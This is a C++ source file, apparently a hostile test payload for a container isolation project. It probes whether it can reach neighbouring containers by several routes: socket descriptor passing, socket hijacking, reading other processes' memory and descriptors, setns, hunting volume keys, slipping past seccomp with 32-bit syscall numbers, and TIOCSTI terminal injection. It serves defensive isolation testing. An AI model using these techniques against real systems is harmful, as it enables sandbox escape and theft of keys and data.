// A hostile payload: what it can reach of other containers of its user. Prints a line for each
// thing that it got; nothing where all is refused.
//
//   neighbour search DIRECTORY…   sockets below these and in /proc/net/unix, and every /proc/PID
//   neighbour serve DIRECTORY     takes the place of every socket there, until it is killed
//   neighbour lock PATH           holds its lock (flock(2)), until it is killed
//   neighbour keys MILLISECONDS   looks for volume keys among the descriptors of other processes
//   neighbour undivided DIRECTORY what no namespace divides: key rings, the input of the terminal,
//                                 and the files below DIRECTORY that may be written
#include <algorithm>
#include <array>
#include <cstddef>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <vector>

#include <linux/keyctl.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>

#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

namespace {

std::vector<std::string> names_in(const std::string& directory) {
  std::vector<std::string> names;
  DIR* const listing = ::opendir(directory.c_str());
  while (const dirent* const entry = listing != nullptr ? ::readdir(listing) : nullptr) {
    if (std::string(entry->d_name) != "." && std::string(entry->d_name) != "..") {
      names.emplace_back(entry->d_name);
    }
  }
  if (listing != nullptr) {
    ::closedir(listing);
  }
  return names;
}

bool is_number(const std::string& text) {
  return !text.empty() && text.find_first_not_of("0123456789") == text.npos;
}

std::string link_of(const std::string& path) {
  std::array<char, 512> text{};
  const ssize_t got = ::readlink(path.c_str(), text.data(), text.size());
  return got > 0 ? std::string(text.data(), static_cast<std::size_t>(got)) : "";
}

std::string comm_of(const std::string& pid) {
  std::array<char, 64> text{};
  const int fd = ::open(("/proc/" + pid + "/comm").c_str(), O_RDONLY);
  const ssize_t got = ::read(fd, text.data(), text.size() - 1);
  ::close(fd);
  return got > 0 ? std::string(text.data(), static_cast<std::size_t>(got - 1)) : "";
}

// Says what a descriptor is that somebody sent.
void report(const char* from, int fd) {
  struct stat info{};
  ::fstat(fd, &info);
  const bool device = S_ISCHR(info.st_mode) && info.st_rdev == makedev(10, 229);
  std::printf("got %s from %s: %s\n", device ? "/dev/fuse" : "a descriptor", from,
              link_of("/proc/self/fd/" + std::to_string(fd)).c_str());
}

int receive(int socket, const char* from, std::array<int, 16>& fds) {
  std::array<char, 8192> bytes{};
  alignas(cmsghdr) std::array<char, CMSG_SPACE(16 * sizeof(int))> control{};
  iovec data{bytes.data(), bytes.size()};
  msghdr message{};
  message.msg_iov = &data;
  message.msg_iovlen = 1;
  message.msg_control = control.data();
  message.msg_controllen = control.size();
  const ssize_t got = ::recvmsg(socket, &message, 0);
  const cmsghdr* const header = got > 0 ? CMSG_FIRSTHDR(&message) : nullptr;
  if (header == nullptr || header->cmsg_type != SCM_RIGHTS) {
    return 0;
  }
  const int count = static_cast<int>((header->cmsg_len - CMSG_LEN(0)) / sizeof(int));
  std::memcpy(fds.data(), CMSG_DATA(header), static_cast<std::size_t>(count) * sizeof(int));
  for (int i = 0; i < count; ++i) {
    report(from, fds[static_cast<std::size_t>(i)]);
  }
  return count;
}

void send_with(int socket, const char* text, std::size_t bytes, const std::vector<int>& fds) {
  alignas(cmsghdr) std::array<char, CMSG_SPACE(16 * sizeof(int))> control{};
  std::vector<char> copy(text, text + bytes);
  iovec data{copy.data(), copy.size()};
  msghdr message{};
  message.msg_iov = &data;
  message.msg_iovlen = 1;
  if (!fds.empty()) {
    message.msg_control = control.data();
    message.msg_controllen = CMSG_SPACE(fds.size() * sizeof(int));
    cmsghdr* const header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(fds.size() * sizeof(int));
    std::memcpy(CMSG_DATA(header), fds.data(), fds.size() * sizeof(int));
  }
  ::sendmsg(socket, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
}

// Everything that a client of such a socket might say.
void talk_to(const sockaddr_un& address, socklen_t size, const std::string& name) {
  const int token = ::open("/proc/self/ns/mnt", O_RDONLY);
  const int root = ::open("/", O_PATH);
  const int null = ::open("/dev/null", O_RDONLY);
  const std::vector<std::vector<int>> shown = {{}, {token}, {root}, {null}, {token, token, token}};
  for (const int type : {SOCK_SEQPACKET, SOCK_STREAM}) {
    for (const char* const word : {"", "J", "B", "R"}) {
      for (const std::vector<int>& fds : shown) {
        const int socket = ::socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
        const timeval patience{0, 200'000};
        ::setsockopt(socket, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
        ::setsockopt(socket, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
        // SAFETY: a sockaddr_un is a sockaddr (unix(7)).
        if (::connect(socket, reinterpret_cast<const sockaddr*>(&address), size) == 0) {
          if (*word != '\0') {
            send_with(socket, word, 1, fds);
          }
          std::array<int, 16> got{};
          while (receive(socket, name.c_str(), got) > 0) {
          }
        }
        ::close(socket);
      }
    }
  }
  ::close(token);
  ::close(root);
  ::close(null);
}

void talk_below(const std::string& directory, int depth) {
  for (const std::string& name : names_in(directory)) {
    const std::string path = directory + "/" + name;
    struct stat info{};
    if (::lstat(path.c_str(), &info) != 0) {
      continue;
    }
    if (S_ISDIR(info.st_mode) && depth > 0) {
      talk_below(path, depth - 1);
    } else if (S_ISSOCK(info.st_mode) && info.st_uid == ::getuid()) {
      std::printf("saw %s\n", path.c_str());
      const int entry = ::open(path.c_str(), O_PATH);
      sockaddr_un address{};
      address.sun_family = AF_UNIX;
      std::snprintf(address.sun_path, sizeof address.sun_path, "/proc/self/fd/%d", entry);
      talk_to(address, sizeof address, path);
      ::close(entry);
    }
  }
}

void talk_to_abstract_names() {
  std::FILE* const file = std::fopen("/proc/net/unix", "r");
  std::array<char, 512> line{};
  while (file != nullptr && std::fgets(line.data(), line.size(), file) != nullptr) {
    char* const at = std::strchr(line.data(), '@');
    if (at == nullptr) {
      continue;
    }
    const std::string name(at + 1, std::strcspn(at + 1, "\n"));
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    std::memcpy(address.sun_path + 1, name.data(),
                std::min(name.size(), sizeof address.sun_path - 1));
    talk_to(address, static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size()),
            "@" + name);
  }
}

// Processes that are not of this container.
std::vector<std::string> others() {
  std::vector<std::string> found;
  const std::string own = link_of("/proc/self/ns/mnt");
  for (const std::string& pid : names_in("/proc")) {
    struct stat info{};
    if (is_number(pid) && link_of("/proc/" + pid + "/ns/mnt") != own &&
        ::stat(("/proc/" + pid).c_str(), &info) == 0) {
      found.push_back(pid);
    }
  }
  return found;
}

void look_into(const std::string& pid) {
  const std::string top = "/proc/" + pid;
  const std::string who = pid + " (" + comm_of(pid) + ")";
  for (const char* const name : {"/mem", "/environ", "/maps"}) {
    if (const int fd = ::open((top + name).c_str(), O_RDONLY); fd >= 0) {
      char byte = 0;
      if (std::strcmp(name, "/mem") == 0 || ::read(fd, &byte, 1) > 0) {
        std::printf("got %s of %s\n", name, who.c_str());
      }
      ::close(fd);
    }
  }
  for (const char* const name : {"/root", "/cwd"}) {
    if (const int fd = ::open((top + name).c_str(), O_RDONLY | O_DIRECTORY); fd >= 0) {
      std::printf("got %s of %s\n", name, who.c_str());
      ::close(fd);
    }
  }
  for (const std::string& number : names_in(top + "/fd")) {
    if (const std::string what = link_of(top + "/fd/" + number); !what.empty()) {
      std::printf("got descriptor %s of %s: %s\n", number.c_str(), who.c_str(), what.c_str());
    }
  }
  const int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, std::atoi(pid.c_str()), 0));
  for (int number = 0; number < 64 && pidfd >= 0; ++number) {
    if (const int fd = static_cast<int>(::syscall(SYS_pidfd_getfd, pidfd, number, 0)); fd >= 0) {
      report(who.c_str(), fd);
      ::close(fd);
    }
  }
  for (const int kind : {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS}) {
    if (pidfd >= 0 && ::setns(pidfd, kind) == 0) {
      std::printf("got into namespaces of %s\n", who.c_str());
    }
  }
  ::close(pidfd);
}

int search(int count, char** directories) {
  talk_to_abstract_names();
  for (int i = 0; i < count; ++i) {
    talk_below(directories[i], 3);
  }
  for (const std::string& pid : others()) {
    look_into(pid);
  }
  std::puts("searched");
  return 0;
}

int listen_in_place_of(const std::string& path) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::snprintf(address.sun_path, sizeof address.sun_path, "x");
  const int socket = ::socket(AF_UNIX, SOCK_SEQPACKET, 0);
  ::unlink("x");
  if (::bind(socket, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0 ||
      ::listen(socket, 64) != 0 || ::rename("x", path.c_str()) != 0) {
    return -1;
  }
  return socket;
}

// Says that it serves what the name says: from the namespaces of its container, and from others of
// its own making. What it is shown as a proof it shows again.
int serve(const std::string& directory) {
  ::signal(SIGPIPE, SIG_IGN);
  std::vector<std::pair<int, std::string>> listening;
  if (::chdir(directory.c_str()) != 0) {
    return 1;
  }
  for (const std::string& name : names_in(".")) {
    if (const int socket = listen_in_place_of(name); socket >= 0) {
      listening.emplace_back(socket, name);
    }
  }
  std::printf("serving %zu\n", listening.size());
  std::fflush(stdout);
  const auto namespaces = [] {
    return std::array{::open("/proc/self/ns/user", O_RDONLY),
                      ::open("/proc/self/ns/mnt", O_RDONLY)};
  };
  const auto of_container = namespaces();
  ::unshare(CLONE_NEWUSER | CLONE_NEWNS);
  const auto own = namespaces();
  int token = of_container[1];
  for (std::size_t turn = 0;;) {
    std::vector<pollfd> events;
    for (const auto& [socket, name] : listening) {
      events.push_back({socket, POLLIN, 0});
    }
    ::poll(events.data(), events.size(), -1);
    for (std::size_t i = 0; i < events.size(); ++i) {
      if (events[i].revents == 0) {
        continue;
      }
      const int peer = ::accept(listening[i].first, nullptr, nullptr);
      const timeval patience{0, 300'000};
      ::setsockopt(peer, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
      std::array<int, 16> got{};
      while (receive(peer, "a start", got) > 0) {
        token = got[0];
      }
      std::fflush(stdout);  // `peer` stays open: whoever waits for more waits
      const auto& [users, mounts] = turn++ % 2 == 0 ? of_container : own;
      send_with(peer, listening[i].second.data(), listening[i].second.size(),
                {token, users, mounts});
    }
  }
}

std::int64_t now() {
  timespec time{};
  ::clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * 1000 + time.tv_nsec / 1'000'000;
}

int keys(std::int64_t milliseconds) {
  std::set<std::string> seen;
  for (const std::int64_t end = now() + milliseconds; now() < end;) {
    std::vector<std::string> pids = names_in("/proc");
    for (const std::string& pid : pids) {
      if (!is_number(pid) || comm_of(pid) != "postern") {
        continue;
      }
      seen.insert(pid);
      for (const std::string& number : names_in("/proc/" + pid + "/fd")) {
        const std::string path = "/proc/" + pid + "/fd/" + number;
        if (link_of(path).starts_with("/memfd:volume-key") && ::open(path.c_str(), O_RDONLY) >= 0) {
          std::printf("got the key of %s\n", pid.c_str());
        }
      }
    }
  }
  std::printf("saw %zu\n", seen.size());
  return 0;
}

// The same calls have other numbers for 32-bit programs, which a filter may not know. In a child:
// a kernel without such programs ends who tries.
void add_keys_by_other_numbers() {
#ifdef __x86_64__
  const pid_t child = ::fork();
  if (child != 0) {
    ::waitpid(child, nullptr, 0);
    return;
  }
  constexpr long kOldAddKey = 286;
  static const char type[] = "user";
  // SAFETY: int 0x80 takes 32 bits of an address, and these lie below: mapped so.
  auto* const low = static_cast<char*>(::mmap(nullptr, 4096, PROT_READ | PROT_WRITE,
                                              MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0));
  std::memcpy(low, type, sizeof type);
  long key = kOldAddKey;
  asm volatile("int $0x80"
               : "+a"(key)
               : "b"(low), "c"(low), "d"(low), "S"(4), "D"(KEY_SPEC_SESSION_KEYRING)
               : "memory");
  if (static_cast<int>(key) > 0) {
    std::puts("got a key ring, as a 32-bit program");
  }
  constexpr long kX32 = 1L << 30;
  if (::syscall(kX32 | SYS_add_key, type, type, "x", 1, KEY_SPEC_USER_KEYRING) > 0) {
    std::puts("got a key ring, as an x32 program");
  }
  std::fflush(stdout);
  ::_exit(0);
#endif
}

void add_keys() {
  for (const int ring : {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING,
                         KEY_SPEC_USER_SESSION_KEYRING, KEY_SPEC_PROCESS_KEYRING}) {
    if (::syscall(SYS_add_key, "user", "postern-neighbour", "x", 1, ring) > 0) {
      std::printf("got key ring %d\n", ring);
    }
    if (::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, ring, 1) > 0) {
      std::printf("got the number of key ring %d\n", ring);
    }
  }
}

void type_into_the_terminal() {
  const int terminal = ::open("/dev/tty", O_RDWR);
  // The kernel reads the low half of the number.
  for (const unsigned long high : {0UL, 1UL << 32}) {
    if (::syscall(SYS_ioctl, terminal, high | TIOCSTI, "#") == 0) {
      std::puts("got the terminal");
    }
  }
  ::close(terminal);
}

int undivided(const char* directory) {
  add_keys_by_other_numbers();
  add_keys();
  type_into_the_terminal();
  ::nftw(
      directory,
      [](const char* path, const struct stat* status, int, FTW*) {
        if (status->st_uid == ::getuid() && ::access(path, W_OK) == 0) {
          std::printf("got %s\n", path);
        }
        return 0;
      },
      16, FTW_PHYS);
  std::puts("searched");
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string what = argc > 2 ? argv[1] : "";
  std::setvbuf(stdout, nullptr, _IOLBF, 0);
  if (what == "search") {
    return search(argc - 2, argv + 2);
  }
  if (what == "serve") {
    return serve(argv[2]);
  }
  if (what == "lock") {
    const bool held = ::flock(::open(argv[2], O_RDONLY), LOCK_EX) == 0;
    std::puts(held ? "held" : "not held");
    return held ? ::pause() : 1;
  }
  if (what == "undivided") {
    return undivided(argv[2]);
  }
  return what == "keys" ? keys(std::atoll(argv[2])) : 2;
}
